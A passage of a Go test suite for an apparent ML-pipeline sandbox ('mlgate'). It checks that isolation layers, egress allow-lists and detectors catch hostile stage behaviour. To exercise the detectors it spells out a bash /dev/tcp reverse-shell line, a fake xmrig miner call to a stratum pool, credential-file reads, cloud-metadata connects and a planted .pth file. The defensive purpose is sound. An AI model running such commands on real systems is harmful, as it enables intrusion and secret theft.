//go:build linux && (amd64 || arm64)

package run

import (
	"bytes"
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// sandboxAvailable says why the sandbox cannot run here ("" when it can).
func sandboxAvailable() string {
	m := Probe()
	if !m.UserNS.Active && os.Geteuid() != 0 {
		return "user namespaces unavailable: " + m.UserNS.Reason
	}
	return ""
}

type stageOut struct {
	res    *Result
	stdout string
	stderr string
}

// stage runs o in the sandbox with the test binary as the helper program.
func stage(t *testing.T, o Options) stageOut {
	t.Helper()
	if why := sandboxAvailable(); why != "" {
		t.Skip(why)
	}
	if ensureHelper() == "" {
		t.Skip("could not copy the test binary to /var/tmp for the stage")
	}
	var out, errb bytes.Buffer
	o.Stdout, o.Stderr = &out, &errb
	if o.Environ == nil {
		o.Environ = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + os.Getenv("HOME")}
	}
	o.Environ = append(o.Environ, envHelper+"=1")
	o.Env = append(o.Env, envHelper)
	o.NoDefaultWatch = true
	if o.Dir == "" {
		o.Dir = "/"
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	res, err := Run(ctx, o)
	if err != nil && strings.Contains(err.Error(), "start the sandbox") {
		t.Skipf("this kernel or container does not allow the namespaces: %v", err)
	}
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	t.Cleanup(func() {
		if !t.Failed() {
			return
		}
		for _, l := range res.Layers {
			t.Logf("layer %-24s active=%-5v %s", l.Name, l.Active, l.Reason)
		}
		for _, e := range res.Events {
			t.Logf("event %+v", e)
		}
		t.Logf("exit %d verdict %s halt %q\nstdout:\n%s\nstderr:\n%s", res.ExitCode, res.Verdict, res.HaltReason, out.String(), errb.String())
	})
	return stageOut{res, out.String(), errb.String()}
}

func hasFinding(r *Result, id string) bool {
	for _, f := range r.Findings {
		if f.RuleID == id {
			return true
		}
	}
	return false
}

func layerReason(r *Result, name string) string {
	for _, l := range r.Layers {
		if l.Name == name {
			return l.Reason
		}
	}
	return ""
}

func layerActive(r *Result, name string) bool {
	for _, l := range r.Layers {
		if l.Name == name {
			return l.Active
		}
	}
	return false
}

func TestStageLayersAllActive(t *testing.T) {
	s := stage(t, Options{Argv: []string{"/bin/true"}})
	if len(s.res.Layers) != len(allLayers) {
		t.Errorf("%d layers reported, want %d", len(s.res.Layers), len(allLayers))
	}
	for _, l := range s.res.Layers {
		if l.Name == LayerUserNS && !strings.Contains(l.Reason, fmt.Sprintf("uid %d ", os.Geteuid())) {
			t.Errorf("user namespace does not map the caller's uid %d: %s", os.Geteuid(), l.Reason)
		}
		if optionalLayers[l.Name] || l.Name == LayerWriteMonitor {
			continue
		}
		if !l.Active {
			t.Errorf("layer %s inactive: %s", l.Name, l.Reason)
		}
	}
	if layerActive(s.res, LayerWriteMonitor) {
		t.Error("write monitor active for a stage with nothing writable")
	}
	if s.res.ExitCode != 0 || s.res.Verdict != VerdictClean {
		t.Errorf("exit %d verdict %s findings %v", s.res.ExitCode, s.res.Verdict, s.res.Findings)
	}
}

func TestStageExitCodeKept(t *testing.T) {
	s := stage(t, Options{Argv: []string{"sh", "-c", "exit 7"}})
	if s.res.ExitCode != 7 {
		t.Errorf("exit code %d, want 7", s.res.ExitCode)
	}
}

func TestStageNetworkNoneCannotReachListener(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var accepted atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	addr := ln.Addr().String()
	s := stage(t, Options{Argv: []string{ensureHelper(), "connect", addr}})
	if s.res.ExitCode == 0 || !strings.Contains(s.stdout, "connect failed") {
		t.Errorf("the stage reached the runner's listener: %s", s.stdout)
	}
	if accepted.Load() != 0 {
		t.Errorf("listener accepted %d connections", accepted.Load())
	}
	_, port, _ := net.SplitHostPort(addr)
	found := false
	for _, e := range s.res.Events {
		if e.Kind == EventConnect && e.Addr == "127.0.0.1" && strconv.Itoa(e.Port) == port {
			found = true
		}
	}
	if !found {
		t.Errorf("failed connect attempt to %s not recorded: %+v", addr, s.res.Events)
	}
}

// echoServer answers each line with "echo:" + line.
func echoServer(t *testing.T) string {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				buf := make([]byte, 256)
				n, _ := c.Read(buf)
				fmt.Fprintf(c, "echo:%s", buf[:n])
			}()
		}
	}()
	return ln.Addr().String()
}

func TestStageEgressProxyAllowAndDeny(t *testing.T) {
	upstream := echoServer(t)
	var dialed []string
	dial := func(ctx context.Context, network, addr string) (net.Conn, error) {
		dialed = append(dialed, addr)
		var d net.Dialer
		return d.DialContext(ctx, network, upstream) // every allowed name maps to the local echo server
	}
	var looked []string
	resolve := func(ctx context.Context, host string) ([]netip.Addr, error) {
		looked = append(looked, host)
		return []netip.Addr{netip.MustParseAddr("203.0.113.7")}, nil // TEST-NET-3: public, never routed
	}
	var rules []HostRule
	for _, h := range []string{"huggingface.co:443", "*.hf.co:443"} {
		r, err := ParseHostRule(h)
		if err != nil {
			t.Fatal(err)
		}
		rules = append(rules, r)
	}
	s := stage(t, Options{
		Argv:    []string{ensureHelper(), "proxy", "huggingface.co:443", "cdn-lfs.hf.co:443", "evil.example:443", "hf.co:443"},
		Network: NetworkAllow, AllowHosts: rules, Dial: dial, Resolve: resolve,
	})
	for _, want := range []string{"huggingface.co:443 200 <nil>", "cdn-lfs.hf.co:443 200 <nil>", "evil.example:443 403 <nil>", "hf.co:443 403 <nil>"} {
		if !strings.Contains(s.stdout, want) {
			t.Errorf("stage output lacks %q", want)
		}
	}
	if strings.Join(dialed, ",") != "203.0.113.7:443,203.0.113.7:443" || strings.Join(looked, ",") != "huggingface.co,cdn-lfs.hf.co" {
		t.Errorf("proxy looked up %v and dialed %v, want the two allowed hosts only, dialled at the address they resolved to", looked, dialed)
	}
	var allowed, denied []string
	for _, e := range s.res.Events {
		if e.Kind == EventEgress {
			if *e.Allowed {
				allowed = append(allowed, e.Host)
			} else {
				denied = append(denied, e.Host)
			}
		}
	}
	if strings.Join(allowed, ",") != "huggingface.co,cdn-lfs.hf.co" || strings.Join(denied, ",") != "evil.example,hf.co" {
		t.Errorf("egress log: allowed %v denied %v", allowed, denied)
	}
	if !hasFinding(s.res, "run/egress-denied") {
		t.Error("no run/egress-denied finding")
	}
}

func TestStageShortLivedProcessesAllSeen(t *testing.T) {
	const n = 200
	s := stage(t, Options{Argv: []string{"sh", "-c", fmt.Sprintf("i=0; while [ $i -lt %d ]; do sh -c 'true'; i=$((i+1)); done", n)}})
	seen := 0
	for _, e := range s.res.Events {
		if e.Kind == EventExec && strings.Join(e.Argv, " ") == "sh -c true" {
			seen++
		}
	}
	if seen != n {
		t.Errorf("saw %d of %d short-lived children", seen, n)
	}
	if s.res.ExitCode != 0 {
		t.Errorf("exit %d", s.res.ExitCode)
	}
}

func TestStageMissingProgramsCountedNotListed(t *testing.T) {
	env := []string{"PATH=/nonexistent-a:/nonexistent-b:/usr/bin:/bin", "HOME=/"}
	s := stage(t, Options{Argv: []string{"sh", "-c", "env no-such-program-mlgate; cd /usr/bin && ./true && env true; echo done"}, Environ: env})
	if !strings.Contains(s.stdout, "done") || s.res.ExitCode != 0 {
		t.Fatalf("exit %d stdout %q", s.res.ExitCode, s.stdout)
	}
	// no-such-program-mlgate: 4 PATH directories; true: 2 before /usr/bin.
	if s.res.ExecsNotFound < 6 {
		t.Errorf("execs_not_found %d, want at least 6", s.res.ExecsNotFound)
	}
	var paths []string
	for _, e := range s.res.Events {
		if e.Kind == EventExec {
			paths = append(paths, e.Path)
		}
	}
	got := strings.Join(paths, " ")
	if strings.Contains(got, "no-such-program") || strings.Contains(got, "nonexistent") {
		t.Errorf("missing programs listed: %s", got)
	}
	if !strings.Contains(got, "./true") {
		t.Errorf("relative exec of an existing program not recorded: %s", got)
	}
}

func TestStageOneMillisecondChildAndFailedConnect(t *testing.T) {
	s := stage(t, Options{Argv: []string{"sh", "-c", "/bin/true; /bin/true; " + ensureHelper() + " connect 10.255.255.1:9"}})
	trues, connects := 0, 0
	var parent int
	for _, e := range s.res.Events {
		if e.Kind == EventExec && e.Path == "/bin/true" {
			trues++
			if parent == 0 {
				parent = e.PPID
			}
		}
		if e.Kind == EventConnect && e.Addr == "10.255.255.1" && e.Port == 9 {
			connects++
		}
	}
	if trues != 2 || connects != 1 {
		t.Errorf("saw %d /bin/true execs (want 2) and %d connects (want 1)", trues, connects)
	}
	if parent == 0 {
		t.Error("parent of /bin/true not recorded")
	}
}

func TestStageMinerCaught(t *testing.T) {
	dir := t.TempDir()
	_ = os.Chmod(dir, 0o755)
	miner := filepath.Join(dir, "xmrig")
	if err := os.Symlink(ensureHelper(), miner); err != nil {
		t.Fatal(err)
	}
	s := stage(t, Options{Argv: []string{miner, "miner", "-o", "stratum+tcp://pool.example.org:3333"}, RO: []string{dir}})
	if !hasFinding(s.res, "run/crypto-miner") {
		t.Errorf("miner not caught: %v", s.res.Findings)
	}
	if s.res.ExitCode != 0 {
		t.Errorf("audit mode must keep the stage's exit code; got %d", s.res.ExitCode)
	}

	e := stage(t, Options{Argv: []string{"sh", "-c", miner + " miner -o stratum+tcp://pool.example.org:3333; echo after"}, RO: []string{dir}, Mode: ModeEnforce})
	if e.res.Verdict != VerdictHalted || !strings.Contains(e.res.HaltReason, "run/crypto-miner") {
		t.Errorf("enforce: verdict %s reason %q", e.res.Verdict, e.res.HaltReason)
	}
	if strings.Contains(e.stdout, "pretending to mine") || strings.Contains(e.stdout, "after") {
		t.Errorf("enforce mode let the stage go on: %q", e.stdout)
	}
}

func TestStageReverseShellCaughtAndKilled(t *testing.T) {
	s := stage(t, Options{Argv: []string{ensureHelper(), "revshell"}})
	if !hasFinding(s.res, "run/reverse-shell") {
		t.Errorf("reverse shell not caught: %v", s.res.Findings)
	}
	if !strings.Contains(s.stdout, "shell-ran") {
		t.Errorf("audit mode should let the shell run: %q", s.stdout)
	}
	e := stage(t, Options{Argv: []string{ensureHelper(), "revshell"}, Mode: ModeEnforce})
	if e.res.Verdict != VerdictHalted || !strings.Contains(e.res.HaltReason, "run/reverse-shell") {
		t.Errorf("enforce: verdict %s reason %q", e.res.Verdict, e.res.HaltReason)
	}
	if strings.Contains(e.stdout, "shell-ran") {
		t.Errorf("enforce mode let the shell run: %q", e.stdout)
	}
	if e.res.ExitCode != 128+int(syscall.SIGKILL) {
		t.Errorf("halted stage exit %d, want %d (killed)", e.res.ExitCode, 128+int(syscall.SIGKILL))
	}
}

// outsideTmp makes a directory the stage sees as the runner does (not
// under /tmp, which the stage gets as a fresh tmpfs).
func outsideTmp(t *testing.T) string {
	dir, err := os.MkdirTemp("/var/tmp", "mlgate-run-test-")
	if err != nil {
		t.Skip("no /var/tmp: ", err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	return dir
}

func TestStageWritesOnlyWhereGrantedAndReported(t *testing.T) {
	out := outsideTmp(t)
	other := outsideTmp(t)
	s := stage(t, Options{
		Argv:  []string{"sh", "-c", fmt.Sprintf("%s write %s/model.bin; %s write %s/evil.txt; echo x > /tmp/scratch && cat /tmp/scratch", ensureHelper(), out, ensureHelper(), other)},
		RW:    []string{out},
		Watch: []string{out},
	})
	if _, err := os.Stat(filepath.Join(out, "model.bin")); err != nil {
		t.Errorf("granted write missing: %v", err)
	}
	if _, err := os.Stat(filepath.Join(other, "evil.txt")); err == nil {
		t.Error("the stage wrote outside its --rw paths")
	}
	if !strings.Contains(s.stdout, "write failed") || !strings.Contains(s.stdout, "x\n") {
		t.Errorf("stdout %q", s.stdout)
	}
	found := false
	for _, c := range s.res.FileChanges {
		if c.Path == filepath.Join(out, "model.bin") && c.Change == ChangeAdded && c.SHA256 != "" {
			found = true
		}
	}
	if !found || !hasFinding(s.res, "run/watched-path-changed") {
		t.Errorf("watched write not reported: %+v %v", s.res.FileChanges, s.res.Findings)
	}
}

func TestStageReadOnlyCarveOut(t *testing.T) {
	out := outsideTmp(t)
	ro := filepath.Join(out, "config")
	if err := os.Mkdir(ro, 0o755); err != nil {
		t.Fatal(err)
	}
	s := stage(t, Options{Argv: []string{"sh", "-c", fmt.Sprintf("%s write %s/ok; %s write %s/no", ensureHelper(), out, ensureHelper(), ro)}, RW: []string{out}, RO: []string{ro}})
	if _, err := os.Stat(filepath.Join(ro, "no")); err == nil {
		t.Error("wrote into a --ro carve-out")
	}
	if _, err := os.Stat(filepath.Join(out, "ok")); err != nil {
		t.Error("could not write into the --rw tree")
	}
	_ = s
}

func TestStageCredentialFilesHidden(t *testing.T) {
	home := outsideTmp(t)
	_ = os.Chmod(home, 0o755)
	if err := os.MkdirAll(filepath.Join(home, ".aws"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(home, ".aws/credentials"), []byte("aws-secret-value"), 0o644)
	os.WriteFile(filepath.Join(home, ".netrc"), []byte("netrc-secret-value"), 0o644)
	env := []string{"PATH=/usr/bin:/bin", "HOME=" + home}
	s := stage(t, Options{Argv: []string{"sh", "-c", fmt.Sprintf("%[1]s read %[2]s/.netrc; %[1]s read %[2]s/.aws/credentials; ls %[2]s/.aws", ensureHelper(), home)}, Home: home, Environ: env})
	if strings.Contains(s.stdout, "secret-value") {
		t.Errorf("credential readable: %q", s.stdout)
	}
	if strings.Count(s.stdout, "read failed") != 2 {
		t.Errorf("want two failed reads: %q", s.stdout)
	}
	if !hasFinding(s.res, "run/credential-access") {
		t.Error("credential hunting not reported")
	}
	g := stage(t, Options{Argv: []string{ensureHelper(), "read", home + "/.netrc"}, Home: home, Environ: env, AllowCredentials: []string{"~/.netrc"}})
	if !strings.Contains(g.stdout, "netrc-secret-value") {
		t.Errorf("granted credential not readable: %q", g.stdout)
	}
}

func TestStageEnvironmentScrubbed(t *testing.T) {
	env := []string{"PATH=/usr/bin:/bin", "AWS_SECRET_ACCESS_KEY=leak1", "HF_TOKEN=hf_pass", "GITHUB_TOKEN=leak2", "MY_SETTING=plain"}
	s := stage(t, Options{Argv: []string{"env"}, Environ: env, Secrets: []string{"HF_TOKEN"}, Env: []string{"MY_SETTING"}})
	for _, bad := range []string{"leak1", "leak2"} {
		if strings.Contains(s.stdout, bad) {
			t.Errorf("unnamed secret reached the stage: %s", bad)
		}
	}
	for _, good := range []string{"HF_TOKEN=hf_pass", "MY_SETTING=plain"} {
		if !strings.Contains(s.stdout, good) {
			t.Errorf("named variable missing: %s", good)
		}
	}
}

func TestStageSeccompDenies(t *testing.T) {
	s := stage(t, Options{Argv: []string{"sh", "-c", ensureHelper() + " unshare-user; unshare -U true; echo unshare=$?; mount -t tmpfs none /mnt; echo mount=$?"}})
	if !strings.Contains(s.stdout, "clone newuser: fork/exec /bin/true: operation not permitted") {
		t.Errorf("clone(CLONE_NEWUSER) not refused: %q", s.stdout)
	}
	if strings.Contains(s.stdout, "unshare=0") || strings.Contains(s.stdout, "mount=0") {
		t.Errorf("unshare or mount succeeded: %q", s.stdout)
	}
}

func TestStageExecFromMemory(t *testing.T) {
	s := stage(t, Options{Argv: []string{ensureHelper(), "memexec"}})
	if !hasFinding(s.res, "run/exec-from-memory") {
		t.Errorf("memfd execution not caught: %+v", s.res.Events)
	}
}

func TestStageCloudMetadata(t *testing.T) {
	s := stage(t, Options{Argv: []string{ensureHelper(), "connect", "169.254.169.254:80"}})
	if !hasFinding(s.res, "run/cloud-metadata") {
		t.Errorf("metadata access not caught: %v", s.res.Findings)
	}
	if s.res.ExitCode == 0 {
		t.Error("the metadata service was reachable from the stage")
	}
	connected := false
	for _, e := range s.res.Events {
		connected = connected || (e.Kind == EventConnect && e.Addr == "169.254.169.254" && e.Port == 80)
	}
	if !connected {
		t.Error("the connect attempt itself was not recorded")
	}
}

func TestStageHaltsWholeTree(t *testing.T) {
	// Background processes hold a file open; once the stage is halted no
	// process anywhere may still hold it.
	out := outsideTmp(t)
	held := filepath.Join(out, "held")
	script := fmt.Sprintf("(sleep 1000 > %[1]s) & (sh -c 'sleep 1000' >> %[1]s &) ; until [ -e %[1]s ]; do sleep 0.01; done; %[2]s connect 169.254.169.254:80; echo not-halted", held, ensureHelper())
	// The script goes in a file: on the command line, the metadata address
	// would halt the stage at its very first exec.
	scriptFile := filepath.Join(out, "stage.sh")
	if err := os.WriteFile(scriptFile, []byte(script+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := stage(t, Options{Argv: []string{"sh", scriptFile}, RW: []string{out}, Mode: ModeEnforce})
	if s.res.Verdict != VerdictHalted || !strings.Contains(s.res.HaltReason, "run/cloud-metadata") || strings.Contains(s.stdout, "not-halted") {
		t.Fatalf("not halted: %s %q", s.res.Verdict, s.stdout)
	}
	if _, err := os.Stat(held); err != nil {
		t.Fatalf("the background process never started: %v", err)
	}
	procs, _ := filepath.Glob("/proc/[0-9]*/fd/*")
	for _, fd := range procs {
		if l, err := os.Readlink(fd); err == nil && l == held {
			t.Errorf("a background process survived the halt: %s", fd)
		}
	}
}

func TestStageModelWriterAttributed(t *testing.T) {
	model := outsideTmp(t)
	other := outsideTmp(t)
	s := stage(t, Options{Argv: []string{ensureHelper(), "writemodel", model, other}, ModelOutput: model, RW: []string{other}})
	if s.res.ExitCode != 0 {
		t.Fatalf("exit %d: %s", s.res.ExitCode, s.stdout)
	}
	if !layerActive(s.res, LayerWriteMonitor) {
		t.Fatal("write monitor inactive")
	}
	type key struct{ op, path, exe string }
	seen := map[key]bool{}
	for _, e := range s.res.Events {
		if e.Kind == EventWrite {
			seen[key{e.Op, e.Path, filepath.Base(e.Exe)}] = true
			if e.PID == 0 || e.Exe == "" {
				t.Errorf("write event without its process: %+v", e)
			}
		}
	}
	for _, want := range []key{
		{OpOpen, model + "/model.bin", "helper"},
		{OpOpen, model + "/by-openat2.bin", "helper"},
		{OpOpen, model + "/model.bin", "dash"},
		{OpOpen, other + "/log", "dash"},
		{OpRename, model + "/swapped", "mv"},
		{OpOpen, model + "/evil", "dash"},
	} {
		if want.exe == "dash" && !seen[want] {
			if _, err := os.Stat("/bin/dash"); err != nil {
				want.exe = "bash"
			}
		}
		if !seen[want] {
			t.Errorf("write event %+v not recorded; got %v", want, seen)
		}
	}
	var msgs []string
	for _, f := range s.res.Findings {
		if f.RuleID == "run/unexpected-model-writer" {
			msgs = append(msgs, f.Message)
		}
	}
	all := strings.Join(msgs, "\n")
	for _, want := range []string{"opened " + model + "/model.bin", "renamed " + other + "/staged to " + model + "/swapped", "opened " + model + "/evil"} {
		if !strings.Contains(all, want) {
			t.Errorf("no finding for %q in:\n%s", want, all)
		}
	}
	for _, bad := range []string{"/helper opened", "/helper renamed", "/cat ", other + "/log", "by-openat2"} {
		for _, m := range msgs {
			if strings.Contains(m, bad) {
				t.Errorf("false positive (%s): %s", bad, m)
			}
		}
	}
	if len(msgs) != 3 {
		t.Errorf("%d model-writer findings, want 3:\n%s", len(msgs), all)
	}

	// A stage that only reads the model output: no write events at all.
	r := stage(t, Options{Argv: []string{"sh", "-c", "cat " + model + "/model.bin; ls " + model}, ModelOutput: model})
	for _, e := range r.res.Events {
		if e.Kind == EventWrite {
			t.Errorf("read reported as a write: %+v", e)
		}
	}
	if hasFinding(r.res, "run/unexpected-model-writer") {
		t.Error("reading the model output reported")
	}

	// With a policy's writer list, the stage's own program is no longer
	// expected unless listed.
	p := stage(t, Options{Argv: []string{ensureHelper(), "writemodel", model, other}, ModelOutput: model, RW: []string{other}, ModelWriters: []string{"mv", "sh", "dash", "bash"}})
	found := false
	for _, f := range p.res.Findings {
		found = found || (f.RuleID == "run/unexpected-model-writer" && strings.Contains(f.Message, "helper opened "+model+"/model.bin"))
	}
	if !found || strings.Contains(fmt.Sprint(p.res.Findings), "running /usr/bin/mv") {
		t.Errorf("policy writers not applied: %v", p.res.Findings)
	}
}

func TestStageDefaultWatchLeftToLandlock(t *testing.T) {
	home := outsideTmp(t)
	_ = os.Chmod(home, 0o755)
	sp := filepath.Join(home, ".local/lib/python3.99/site-packages")
	if err := os.MkdirAll(sp, 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(sp, "pkg.py"), []byte("x = 1\n"), 0o644)
	env := []string{"PATH=/usr/bin:/bin", "HOME=" + home}
	write := fmt.Sprintf("%s write %s/evil.pth", ensureHelper(), sp)
	o := Options{Argv: []string{"sh", "-c", write}, Home: home, Environ: env}
	// stage() turns the default watch off; this test needs it on.
	run := func(o Options) stageOut {
		o.Environ = append(o.Environ, envHelper+"=1")
		o.Env = append(o.Env, envHelper)
		o.Dir = "/"
		var out bytes.Buffer
		o.Stdout, o.Stderr = &out, io.Discard
		if why := sandboxAvailable(); why != "" {
			t.Skip(why)
		}
		res, err := Run(context.Background(), o)
		if err != nil {
			t.Fatal(err)
		}
		return stageOut{res: res, stdout: out.String()}
	}
	s := run(o)
	if !slicesContains(s.res.ReadOnlyTrees, sp) || slicesContains(s.res.Watched, sp) {
		t.Errorf("site-packages not left to landlock: watched %v read-only %v", s.res.Watched, s.res.ReadOnlyTrees)
	}
	if !strings.Contains(s.stdout, "write failed") {
		t.Errorf("the stage wrote into a read-only default tree: %q", s.stdout)
	}
	if len(s.res.Errors) != 0 {
		t.Errorf("errors %v", s.res.Errors)
	}
	// Writable site-packages: walked before and after, and the write found.
	o.RW = []string{sp}
	w := run(o)
	if !slicesContains(w.res.Watched, sp) || !hasFinding(w.res, "run/site-packages-modified") {
		t.Errorf("writable site-packages: watched %v findings %v stdout %q", w.res.Watched, w.res.Findings, w.stdout)
	}
}

// TestAsUnprivileged runs every TestStage test again as uid 65534, the
// way an ordinary CI user would run mlgate.
func TestAsUnprivileged(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("already unprivileged")
	}
	if os.Getenv("MLGATE_RUN_TEST_NESTED") != "" || testing.Short() {
		t.Skip("nested or -short")
	}
	if ensureHelper() == "" {
		t.Skip("no helper copy")
	}
	cmd := exec.Command(ensureHelper(), "-test.run", "^TestStage", "-test.v", "-test.count=1")
	cmd.Env = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/nonexistent", "MLGATE_RUN_TEST_NESTED=1"}
	cmd.Dir = "/"
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	var buf bytes.Buffer
	cmd.Stdout, cmd.Stderr = &buf, &buf
	err := cmd.Run()
	out := buf.String()
	t.Log(out)
	if err == nil && strings.Contains(out, "user namespaces unavailable") {
		t.Skip("unprivileged user namespaces are not available here")
	}
	if err != nil {
		t.Fatalf("unprivileged run failed: %v", err)
	}
	if n := strings.Count(out, "--- PASS: TestStage"); n < 10 || strings.Contains(out, "--- SKIP") {
		t.Errorf("%d stage tests passed unprivileged; skips: %v", n, strings.Contains(out, "--- SKIP"))
	}
	_ = io.Discard
}

// TestRootWithoutUserNS covers the fallback for runners where user
// namespaces are forbidden but mlgate runs as root: every other layer must
// still be active, and the missing one reported.
func TestRootWithoutUserNS(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: without a user namespace only root can create the other namespaces")
	}
	s := stage(t, Options{Argv: []string{"sh", "-c", "grep -E '^Cap(Eff|Bnd)' /proc/self/status"}, NoUserNS: true})
	for _, l := range s.res.Layers {
		if optionalLayers[l.Name] || l.Name == LayerWriteMonitor {
			continue
		}
		if l.Active == (l.Name == LayerUserNS) {
			t.Errorf("layer %s active=%v: %s", l.Name, l.Active, l.Reason)
		}
	}
	if strings.Count(s.stdout, "0000000000000000") != 2 {
		t.Errorf("capabilities not dropped as real root: %q", s.stdout)
	}
	if hasFinding(s.res, "run/isolation-layer-missing") {
		t.Error("a layer disabled on request is not a finding")
	}
}

func TestStageWorkingDirUnderTmp(t *testing.T) {
	dir := t.TempDir() // under /tmp, which the stage gets as a fresh tmpfs
	_ = os.Chmod(dir, 0o755)
	if err := os.WriteFile(filepath.Join(dir, "input.txt"), []byte("dataset"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := stage(t, Options{Argv: []string{"sh", "-c", "cat input.txt; echo; echo x > new.txt; echo rc=$?"}, Dir: dir})
	if !strings.HasPrefix(s.stdout, "dataset\n") || strings.Contains(s.stdout, "rc=0") {
		t.Errorf("working directory under /tmp: want readable and read-only, got %q", s.stdout)
	}
}

func TestStageDevTCPReverseShellHalted(t *testing.T) {
	if _, err := os.Stat("/bin/bash"); err != nil {
		t.Skip("no bash")
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	script := "echo before; bash -c 'bash -i >& /dev/tcp/" + strings.Replace(ln.Addr().String(), ":", "/", 1) + " 0>&1'; echo after"
	dir := outsideTmp(t)
	_ = os.Chmod(dir, 0o755)
	if err := os.WriteFile(filepath.Join(dir, "stage.sh"), []byte(script+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := stage(t, Options{Argv: []string{"/bin/sh", filepath.Join(dir, "stage.sh")}, Mode: ModeEnforce})
	if s.res.Verdict != VerdictHalted || !strings.Contains(s.res.HaltReason, "run/reverse-shell") {
		t.Errorf("verdict %s reason %q", s.res.Verdict, s.res.HaltReason)
	}
	if !strings.Contains(s.stdout, "before") || strings.Contains(s.stdout, "after") {
		t.Errorf("stdout %q", s.stdout)
	}
}

func TestStageNetworkHost(t *testing.T) {
	addr := echoServer(t)
	s := stage(t, Options{Argv: []string{ensureHelper(), "connect", addr}, Network: NetworkHost})
	if s.res.ExitCode != 0 || layerActive(s.res, LayerNetNS) {
		t.Errorf("--network host: exit %d, netns active %v", s.res.ExitCode, layerActive(s.res, LayerNetNS))
	}
	if hasFinding(s.res, "run/isolation-layer-missing") {
		t.Error("a network namespace left out on request is not a finding")
	}
}

func TestStageUnconnectedDatagramSeen(t *testing.T) {
	s := stage(t, Options{Argv: []string{ensureHelper(), "udp", "169.254.169.254:53"}})
	seen := false
	for _, e := range s.res.Events {
		if e.Kind == EventSendto && e.Addr == "169.254.169.254" && e.Port == 53 {
			seen = true
		}
	}
	if !seen || !hasFinding(s.res, "run/cloud-metadata") {
		t.Errorf("sendto to the metadata address not seen (seen=%v): %v", seen, s.res.Findings)
	}
}

func TestStageMissingCommand(t *testing.T) {
	s := stage(t, Options{Argv: []string{"no-such-command-mlgate"}})
	if s.res.ExitCode != 127 || len(s.res.Errors) == 0 || s.res.Verdict != VerdictError {
		t.Errorf("exit %d errors %v verdict %s", s.res.ExitCode, s.res.Errors, s.res.Verdict)
	}
	if len(s.res.Layers) != len(allLayers) {
		t.Errorf("%d layers reported, want all %d", len(s.res.Layers), len(allLayers))
	}
	if len(s.res.Findings) != 0 {
		t.Errorf("a command that does not exist is an error, not findings: %v", s.res.Findings)
	}
}

// TestStageEgressPrivateRefused: an allowed name that resolves to
// loopback (the real resolver, through /etc/hosts) or to private addresses
// is refused by default, with the address class in the event and a
// run/egress-private-address finding, and nothing reaches the listener.
func TestStageEgressPrivateRefused(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var accepted atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	_, port, _ := net.SplitHostPort(ln.Addr().String())
	fake := map[string]string{"mirror.internal.example": "10.11.12.13", "cgnat.example": "100.64.0.7", "mapped.example": "::ffff:192.168.7.7"}
	resolve := func(ctx context.Context, host string) ([]netip.Addr, error) {
		if a, ok := fake[host]; ok {
			return []netip.Addr{netip.MustParseAddr(a)}, nil
		}
		return localhostOnly(ctx, host)
	}
	var rules []HostRule
	for _, h := range []string{"localhost:" + port, "mirror.internal.example:443", "cgnat.example:443", "mapped.example:443", "127.0.0.1:" + port} {
		r, err := ParseHostRule(h)
		if err != nil {
			t.Fatal(err)
		}
		rules = append(rules, r)
	}
	s := stage(t, Options{
		Argv:    []string{ensureHelper(), "proxy", "localhost:" + port, "mirror.internal.example:443", "cgnat.example:443", "mapped.example:443", "127.0.0.1:" + port},
		Network: NetworkAllow, AllowHosts: rules, Resolve: resolve,
	})
	for _, want := range []string{"localhost:" + port + " 403", "mirror.internal.example:443 403", "cgnat.example:443 403", "mapped.example:443 403", "127.0.0.1:" + port + " 403"} {
		if !strings.Contains(s.stdout, want) {
			t.Errorf("stage output lacks %q", want)
		}
	}
	if accepted.Load() != 0 {
		t.Errorf("the runner's loopback listener was reached %d times", accepted.Load())
	}
	classes := map[string]string{}
	for _, e := range s.res.Events {
		if e.Kind == EventEgress {
			classes[e.Host] = e.AddrClass
			if *e.Allowed || !strings.Contains(e.Reason, "--allow-private-egress") {
				t.Errorf("event %+v", e)
			}
		}
	}
	if classes["localhost"] != "loopback" || classes["127.0.0.1"] != "loopback" || classes["mirror.internal.example"] != "private (10.0.0.0/8)" ||
		classes["cgnat.example"] != "shared address space (100.64.0.0/10, CGNAT)" || classes["mapped.example"] != "private (192.168.0.0/16)" {
		t.Errorf("address classes: %v", classes)
	}
	if !hasFinding(s.res, "run/egress-private-address") || hasFinding(s.res, "run/egress-denied") {
		t.Errorf("findings: %v", s.res.Findings)
	}
}

// TestStageEgressPrivateAllowed: with AllowPrivateEgress the same
// loopback name reaches the listener through the real resolver and
